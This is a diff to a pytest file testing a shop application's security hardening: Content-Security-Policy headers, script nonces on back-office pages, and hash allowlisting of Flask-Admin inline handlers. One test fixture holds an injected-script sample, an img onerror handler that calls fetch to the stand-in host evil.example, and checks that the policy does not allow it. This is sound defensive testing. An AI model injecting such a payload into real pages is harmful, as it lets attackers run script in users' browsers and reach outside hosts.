@@ -1,6 +1,9 @@
 """Hardening: security headers on every kind of response, trusted hosts, proxies, upload size,
 no debug in production."""
 
+import base64
+import hashlib
+import html
 import re
 
 import pytest
@@ -28,7 +31,8 @@ def assert_hardened(response, admin=False):
     script = directives["script-src"]
     assert "'self'" in script
     assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script
-    assert all(s == "'self'" or s.startswith("'nonce-") for s in script)
+    allowed = ("'nonce-", "'sha256-", "'unsafe-hashes'") if admin else ("'nonce-",)
+    assert all(s == "'self'" or s.startswith(allowed) for s in script)
     if not admin:
         assert directives["style-src"] == ["'self'"]
     assert response.headers["X-Content-Type-Options"] == "nosniff"
@@ -195,3 +199,51 @@ def test_production_refuses_to_run_without_trusted_hosts(prod_env):
     prod_env.delenv("SHOP_TRUSTED_HOSTS")
     with pytest.raises(ConfigError, match="SHOP_TRUSTED_HOSTS"):
         create_app("production")
+
+
+def test_back_office_pages_run_no_script_without_the_nonce(app, client, db, monkeypatch):
+    """Every back-office page: inline scripts carry this response's nonce, and Flask-Admin's
+    inline event handlers are allowed by their exact hash."""
+    monkeypatch.setitem(app.config, "STAFF_TWO_FACTOR_REQUIRED", False)
+    user = UserFactory(roles=["admin", "manager", "warehouse"])
+    with client.session_transaction() as session:
+        session["_user_id"] = user.fs_uniquifier
+        session["_fresh"] = True
+    urls = sorted({view.url for view in app.extensions["shop_admin"]._views})
+    checked = 0
+    for url in urls:
+        response = client.get(url + "/" if not url.endswith("/") else url)
+        if response.status_code != 200 or response.mimetype != "text/html":
+            continue
+        checked += 1
+        assert_hardened(response, admin=True)
+        nonce = re.search(r"'nonce-([^']+)'", response.headers["Content-Security-Policy"])[1]
+        body = response.get_data(as_text=True)
+        for tag in re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", body):
+            assert f'nonce="{nonce}"' in tag, (url, tag)
+        policy = response.headers["Content-Security-Policy"]
+        for handler in re.findall(r"\son[a-z]+=\"([^\"]*)\"", body):
+            digest = base64.b64encode(
+                hashlib.sha256(html.unescape(handler).encode()).digest()).decode()
+            assert f"'sha256-{digest}'" in policy, (url, handler)
+    assert checked, "no back-office page could be opened"
+
+
+def test_only_known_admin_handlers_are_allowed():
+    from flask import Response
+
+    from shop.ops.security import allow_admin_handlers
+
+    page = (
+        '<a onclick="return modelActions.execute(&#39;delete&#39;);">x</a>'
+        '<button onclick="return faHelpers.safeConfirm(\'Удалить?\');">y</button>'
+        '<img onerror="fetch(\'//evil.example\')">'
+    )
+    response = Response(page, mimetype="text/html")
+    response.headers["Content-Security-Policy"] = "default-src 'self'; script-src 'self'"
+    allow_admin_handlers(response)
+    policy = response.headers["Content-Security-Policy"]
+    assert policy.count("'sha256-") == 2
+    assert "'unsafe-hashes'" in policy
+    evil = base64.b64encode(hashlib.sha256(b"fetch('//evil.example')").digest()).decode()
+    assert evil not in policy
